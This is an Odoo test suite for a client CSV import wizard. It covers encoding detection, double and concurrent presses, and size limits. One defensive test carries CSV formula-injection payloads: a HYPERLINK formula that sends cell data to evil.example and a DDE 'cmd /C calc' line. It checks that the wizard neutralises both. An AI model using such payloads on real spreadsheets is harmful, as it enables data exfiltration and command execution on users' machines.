# Copyright 2026 Client Base
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl-3.0).
"""Issue 14: the import wizard and the double presses, attacked as a real
client would (buttons over JSON-RPC, two transactions at once)."""

import base64

from odoo import api
from odoo.exceptions import UserError
from odoo.tests import HttpCase, TransactionCase, new_test_user, tagged

from .rpc_common import RpcMixin

CP1251_CSV = (
    "Наименование;Телефон;Город\n"
    "ООО Ромашка;+7 495 123-45-67;Москва\n"
    "ЗАО Лютик;+7 812 765-43-21;Санкт-Петербург\n"
).encode("cp1251")


@tagged("post_install", "-at_install")
class TestImportWizardHardening(RpcMixin, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.cb_user = new_test_user(
            cls.env,
            login="cb_import_user",
            groups="base.group_user,client_base.client_base_group_user",
        )

    def _wizard(self, content, filename="clients.csv"):
        result, error = self._call(
            "client.import.wizard",
            "create",
            {
                "file": base64.b64encode(content).decode(),
                "filename": filename,
                "source": "Hardening",
            },
        )
        self.assertFalse(error, error)
        return self.env["client.import.wizard"].browse(result)

    def _press(self, wizard, method):
        return self._button("client.import.wizard", method, wizard.ids)

    def test_cp1251_detected_and_shown(self):
        self._login(self.cb_user)
        wizard = self._wizard(CP1251_CSV)
        _result, error = self._press(wizard, "action_read_file")
        self.assertFalse(error, error)
        _result, error = self._press(wizard, "action_preview")
        self.assertFalse(error, error)
        wizard.invalidate_recordset()
        self.assertEqual(wizard.encoding, "cp1251")
        self.assertEqual(wizard.row_count, 2)
        self.assertEqual(
            wizard.preview_ids.mapped("name"), ["ООО Ромашка", "ЗАО Лютик"]
        )

    def test_apply_twice_creates_once(self):
        self._login(self.cb_user)
        wizard = self._wizard(CP1251_CSV)
        self._press(wizard, "action_read_file")
        self._press(wizard, "action_preview")
        for _press in range(2):
            _result, error = self._press(wizard, "action_apply")
            self.assertFalse(error, error)
        created = self.env["res.partner"].search(
            [("name", "in", ["ООО Ромашка", "ЗАО Лютик"])]
        )
        self.assertEqual(len(created), 2, "two presses, each client once")

    def test_formulas_neutralised_phones_kept(self):
        content = (
            b"Name;Phone;City\n"
            b'=HYPERLINK("http://evil.example/?q"&A1);+7 495 123-45-67;Omsk\n'
            b"@SUM(1+1)*cmd|' /C calc'!A0;+7 495 123-45-68;-Omsk\n"
        )
        self._login(self.cb_user)
        wizard = self._wizard(content)
        self._press(wizard, "action_read_file")
        _result, error = self._press(wizard, "action_preview")
        self.assertFalse(error, error)
        wizard.invalidate_recordset()
        self.assertEqual(wizard.preview_ids.mapped("action"), ["create", "create"])
        _result, error = self._press(wizard, "action_apply")
        self.assertFalse(error, error)
        wizard.invalidate_recordset()
        partners = wizard.preview_ids.partner_id
        self.assertEqual(len(partners), 2)
        for partner in partners:
            self.assertTrue(partner.name.startswith("'"), partner.name)
            self.assertTrue(partner.phone.startswith("+7"), partner.phone)
        self.assertIn("'-Omsk", partners.mapped("city"))

    def test_long_file_refused_not_cut(self):
        rows = "".join(f"Client {i};+7 495 {i:07d}\n" for i in range(50_000))
        self._login(self.cb_user)
        wizard = self._wizard(("Name;Phone\n" + rows).encode())
        _result, error = self._press(wizard, "action_read_file")
        self.assertTrue(error, "a 50,000-row file is refused with a message")
        self.assertIn("50,000", error["message"])
        self.assertIn("5,000", error["message"])
        self.assertFalse(
            self.env["res.partner"].search_count([("name", "=like", "Client %")])
        )


@tagged("post_install", "-at_install")
class TestDoublePress(TransactionCase):
    """Two transactions at once, on real cursors (the test transaction is
    not used: nothing of it is visible to them); everything they do is
    rolled back, except the wizard set up for the import, removed at the
    end."""

    def _env(self, cr):
        admin = self.env.ref("base.user_admin").id
        return api.Environment(cr, admin, {"lang": "en_US"})

    def test_backfill_pressed_twice_at_once(self):
        with self.registry.cursor() as cr1, self.registry.cursor() as cr2:
            cr2.execute("SET lock_timeout = '3s'")
            self.assertTrue(self._env(cr1)["client.interaction"].action_backfill_now())
            # the second press neither waits nor fails on "Key must be unique"
            self.assertTrue(self._env(cr2)["client.interaction"].action_backfill_now())
            cr2.rollback()
            cr1.rollback()

    def test_import_applied_twice_at_once(self):
        with self.registry.cursor() as cr0:
            env0 = self._env(cr0)
            wizard = env0["client.import.wizard"].create(
                {
                    "file": base64.b64encode(CP1251_CSV),
                    "filename": "clients.csv",
                    "source": "Two tabs",
                }
            )
            wizard.action_read_file()
            wizard.action_preview()
            wizard_id = wizard.id
            cr0.commit()
        try:
            with self.registry.cursor() as cr1, self.registry.cursor() as cr2:
                cr2.execute("SET lock_timeout = '3s'")
                self._env(cr1)["client.import.wizard"].browse(wizard_id).action_apply()
                # the second tab, while the first is still applying
                second = self._env(cr2)["client.import.wizard"].browse(wizard_id)
                with self.assertRaisesRegex(UserError, "being applied already"):
                    second.action_apply()
                self.assertFalse(
                    self._env(cr2)["res.partner"].search_count(
                        [("name", "=", "ООО Ромашка")]
                    ),
                    "the second press created nothing",
                )
                cr2.rollback()
                cr1.rollback()
        finally:
            with self.registry.cursor() as cr0:
                self._env(cr0)["client.import.wizard"].browse(wizard_id).unlink()
                cr0.commit()
